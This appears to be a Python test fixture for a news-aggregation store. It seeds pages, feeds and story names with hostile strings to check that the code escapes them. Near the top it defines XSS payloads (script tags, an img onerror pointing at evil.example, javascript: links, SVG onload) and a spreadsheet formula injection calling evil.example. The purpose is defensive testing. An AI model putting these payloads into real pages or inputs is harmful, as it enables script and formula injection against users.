"""A store in which everything that comes from outside means harm: pages, names, feeds, what was lost."""

from __future__ import annotations

import hashlib
from dataclasses import fields, is_dataclass, replace
from typing import Any

from sqlalchemy import Connection

from tellings.config import Settings
from tellings.report.jsonform import to_json
from tellings.runs.intake import take
from tellings.runs.stories import bring_up_to_date
from tellings.store import Store
from tellings.store.articles import put_article
from tellings.store.decisions import rename_story
from tellings.store.dossiers import put_dossier
from tellings.store.drops import put_drop
from tellings.store.feeds import Named, add_feed, get_feed, see_entries, update_feed
from tellings.store.labels import put_labels
from tellings.store.stories import assign, create_story
from tellings.types.articles import Capture, Dropped
from tellings.types.collecting import Health
from tellings.types.store import Ruling
from tests.report.story import ferry

AT, LATER = "2031-03-04T09:00:00Z", "2031-03-05T09:00:00Z"

SCRIPT = "<script>window.owned=1;alert(1)</script>"
IMAGE = '"><img src=https://evil.example/x.png onerror="window.owned=1;alert(2)">\''
LINK = "javascript:alert(3)//<a href=javascript:alert(4)>x</a>"
TEMPLATE = "{{ 7*7 }}{% raw %}</textarea></title></style><svg onload=alert(5)>"
BIDI = "\u202egnp.exe\u2066 \u200b\u200d\ufeff\u2069\u202c abc \u0000\u0007\u001b[31m"
HUGE = "Ω" * 10_000
ZALGO = "e" + "\u0301" * 400 + " 👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🛟" * 40
FORMULA = '=HYPERLINK("https://evil.example/"&A1,"+@-cmd|calc")'

EVERY = (SCRIPT, IMAGE, LINK, TEMPLATE, BIDI, HUGE, ZALGO, FORMULA)

SWAPS = {
    "Ida Morrow": SCRIPT,
    "Tomas Reyl": BIDI,
    "Straitline": HUGE,
    "Per Aske": FORMULA,
    "Ansel Herald": IMAGE,
    "Northern Wire": LINK,
    "Mira Tolland": TEMPLATE,
}
"""What names of the made-up ferry's story become, wherever they stand beside a text."""

PAGE = """<!doctype html><html lang="en"><head><title>{title}</title><meta property="og:site_name" content="{outlet}">
<meta name="author" content="{author}"><meta property="article:published_time" content="2031-03-04T08:10:00Z">
<link rel="canonical" href="javascript:alert(1)"></head><body><article><h1>{title}</h1>
<p>The dam at Orrin Ford broke on Tuesday, the mayor, Odile Marsh, said. Three people were hurt. {extra}</p>
<p>“{said}” said Odile Marsh. The council plans to meet on 10 March. The water reached the mill at noon. {huge}</p>
<p>Fire chief Pim Sorrel said that {count} houses stood in the water of the river Tansy and that it would fall by
Friday. He asked people to stay away from the bridge until then. {emoji}</p></article></body></html>"""


def swapped(value: Any) -> Any:  # noqa: ANN401 -- whatever stands in a dossier
    """Return a dossier's part with hostile names in place of harmless ones; texts stay, so that passages do."""
    if isinstance(value, str):
        return SWAPS.get(value, value)
    if isinstance(value, tuple):
        return tuple(swapped(one) for one in value)
    if is_dataclass(value) and not isinstance(value, type):
        return replace(value, **{one.name: swapped(getattr(value, one.name)) for one in fields(value)})
    return value


def escaped(text: str) -> str:
    """Return text as a page carries it so that a reader of HTML sees the very characters."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;").replace("\x00", "")


def captures() -> list[Capture]:
    """Return pages of two outlets about one event, the second of them in two versions."""
    made = []
    for number, (outlet, title, author) in enumerate(
        ((IMAGE, SCRIPT + " dam breaks", LINK), (BIDI, TEMPLATE + " dam breaks", HUGE), (BIDI, IMAGE + " dam", HUGE))
    ):
        values = {"title": title, "outlet": outlet, "author": author, "extra": SCRIPT + IMAGE, "said": TEMPLATE}
        values |= {"huge": HUGE, "emoji": ZALGO + BIDI + FORMULA, "count": str(30 + number)}
        content = PAGE.format(**{name: escaped(text) for name, text in values.items()}).encode("utf-8", "replace")
        url = f"https://evil{min(number, 1)}.example/<script>alert(1)</script>?q=%22onerror=alert(1)"
        made.append(
            Capture(
                source=url, content=content, media_type="text/html", sha256=hashlib.sha256(content).hexdigest(),
                url=url, fetched_at=LATER if number == 2 else AT, status=200, headers=(("content-type", "text/html"),),
                charset="utf-8",
            )
        )  # fmt: skip
    return made


def fill(store: Store) -> None:
    """Fill an empty store: pages that went the whole way, and a ferry's story whose names are hostile too."""
    for one in captures():
        take(store, one)
    bring_up_to_date(store, settings=Settings(processes=1), clock=lambda: LATER, settle=True)
    store.write(_ferry)
    store.write(_sources)


def _ferry(connection: Connection) -> None:
    dossier = swapped(ferry())
    titled = [
        replace(article, title=words, language="en") for article, words in zip(dossier.articles, EVERY, strict=False)
    ]
    story = create_story(connection, SCRIPT, at=AT)
    inside = []
    for article, marks, words in zip(titled, dossier.labels, EVERY, strict=False):
        put = put_article(connection, article, seen_at=AT)
        put_labels(connection, put.version, marks, maker="tellings", release="1", at=AT)
        assign(connection, put.article, story, score=0.9, reason=words, at=AT)
        inside.append(put.version)
    dossier = replace(dossier, articles=tuple(titled))
    for document, at in ((to_json(replace(dossier, positions=())), AT), (to_json(dossier), LATER)):
        put_dossier(connection, story, document, versions=inside, at=at, maker="tellings 0")
    for words in (HUGE[:300], IMAGE + BIDI):
        rename_story(connection, story, words, ruling=Ruling(who=SCRIPT, why=IMAGE + HUGE[:1500], at=LATER))


def _sources(connection: Connection) -> None:
    for number, words in enumerate(EVERY):
        address = f"https://evil{number}.example/{words[:200]}"
        ident = add_feed(connection, address, at=AT, title=words, outlet=words)
        update_feed(connection, replace(get_feed(connection, ident), health=Health.FAILING, error=words, failures=3))
        see_entries(connection, ident, [Named(address + "/x", words)], at=AT)
        lost = Dropped(source=words, stage="extract", code="E002", reason=words)
        put_drop(connection, lost, at=AT)
